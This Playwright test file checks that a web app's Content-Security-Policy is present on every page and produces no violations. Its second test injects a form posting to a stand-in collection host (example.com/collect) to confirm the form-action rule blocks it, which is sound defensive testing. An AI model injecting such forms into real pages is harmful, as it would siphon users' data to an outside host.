/**
 * The Content-Security-Policy (issue 10.6): every page carries it, the app runs under it without a
 * single violation, and a form that got into the page cannot post anywhere.
 */
import { expect, test, type Page } from '@playwright/test';
import { answerWithKeyboard, open } from './fixtures';

/** Makes every page keep the CSP violations it reports, in `window.cspViolations`. */
async function keepViolations(page: Page): Promise<void> {
	await page.addInitScript(() => {
		const seen: string[] = [];
		Object.assign(window, { cspViolations: seen });
		document.addEventListener('securitypolicyviolation', (e) => {
			seen.push(`${e.violatedDirective} ${e.blockedURI}`);
		});
	});
}

function violations(page: Page): Promise<string[]> {
	return page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);
}

test('every page has the policy, and the app runs under it with no violation', async ({ page }) => {
	await keepViolations(page);
	for (const url of ['/', '/practice/run?bank=cpc&section=mixed', '/exam', '/codes', '/settings']) {
		await open(page, url);
		const policy = await page
			.locator('meta[http-equiv="content-security-policy"]')
			.getAttribute('content');
		expect(policy, url).toContain("default-src 'self'");
		expect(policy, url).toContain("img-src 'self' data:");
		expect(policy, url).toContain("form-action 'none'");
		expect(policy, url).toContain("object-src 'none'");
		expect(policy, url).toContain("base-uri 'none'");
		if (url.startsWith('/practice')) await answerWithKeyboard(page);
		expect(await violations(page), url).toEqual([]);
	}
});

test('a form injected into a practice item cannot navigate away', async ({ page }) => {
	await keepViolations(page);
	await open(page, '/practice/run?bank=cpc&section=mixed');
	const url = page.url();
	await expect(page.getByRole('heading', { name: /^Item 1 of \d+$/ })).toBeVisible();
	await expect(page.getByTestId('tally')).toContainText('0 answered');
	// What DOMPurify would have removed, placed in the page as if it had not.
	await page.evaluate(() => {
		const form = document.createElement('form');
		form.action = 'https://example.com/collect';
		form.method = 'get';
		form.innerHTML = '<input name="q" value="x"><button type="submit">Injected</button>';
		document.querySelector('article[data-item-id]')?.append(form);
	});
	// A click event, as a learner's click would send; Playwright's own click would wait for the
	// navigation that the policy blocks.
	await page.getByRole('button', { name: 'Injected' }).dispatchEvent('click');
	await expect
		.poll(async () => (await violations(page)).map((v) => v.split(' ')[0]))
		.toEqual(['form-action']);
	expect(page.url()).toBe(url);
	// Read from the page: Playwright's locators would wait on the navigation that never comes.
	const heading = await page.evaluate(() => document.querySelector('article h2')?.textContent);
	expect(heading).toMatch(/^Item 1 of \d+$/);
});
